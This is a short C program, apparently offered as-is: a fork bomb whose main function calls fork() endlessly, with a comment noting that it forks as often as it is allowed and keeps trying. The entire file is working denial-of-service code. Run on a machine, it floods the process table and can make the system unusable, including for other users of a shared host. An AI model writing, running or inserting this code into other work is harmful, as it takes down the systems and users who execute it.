// Forks as often as it is let, and goes on trying.
#include <unistd.h>

int main(void) {
    for (;;) (void)!fork();
}
